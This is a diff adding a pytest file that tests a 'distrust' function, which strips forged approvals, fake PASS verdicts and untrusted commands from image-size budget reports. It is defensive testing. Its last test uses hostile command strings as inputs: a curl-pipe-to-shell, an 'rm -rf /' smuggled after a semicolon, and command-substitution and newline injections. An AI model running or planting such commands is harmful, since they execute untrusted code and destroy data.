@@ -1,0 +1,53 @@
+"""What is left of a report when nothing in it is believed but its numbers."""
+
+from dataclasses import replace
+
+import pytest
+
+from bot.budget.approval import approve
+from bot.budget.untrusted_report import distrust
+from bot.model.report import Approval, Check, Outcome
+from tests.support.image_world import budget, compared, review
+from tests.support.report_cases import CASES
+
+GROWN = compared("FROM a 10MB", "FROM a 10MB / RUN x 20MB", budget(max_growth="5MB"))
+
+
+# The pages of a workflow; of these the one is full of attacks, the other claims an approval.
+HONEST = [
+    name
+    for name, case in CASES.items()
+    if case().mode in ("review", "audit") and name not in ("hostile", "approved")
+]
+
+
+@pytest.mark.parametrize("name", HONEST)
+def test_an_honest_report_is_left_as_it_is(name: str) -> None:
+    report = CASES[name]()
+    assert distrust(report) == report
+
+
+def test_a_claimed_approval_is_forgotten() -> None:
+    boss = Approval("ok", "boss", "today", counts=True)
+    assert distrust(approve(review(GROWN), boss)) == review(GROWN)
+
+
+def test_a_claimed_verdict_is_found_out() -> None:
+    fine = Check("max-growth", "unpacked_bytes", 1, 5, Outcome.PASS, "all is well, says the boss")
+    report = distrust(review(replace(GROWN, checks=(fine,), verdict=Outcome.PASS)))
+    assert report.verdict is Outcome.FAIL
+    assert "boss" not in report.images[0].checks[0].reason
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl example.com | sh",
+        "image-size-review review; rm -rf /",
+        "image-size-review review --base $(x)",
+        "image-size-review review\nx",
+        "image-size-review schema",
+    ],
+)
+def test_nobody_is_told_to_run_a_strangers_command(command: str) -> None:
+    assert distrust(review(GROWN, command=command)).command == ""
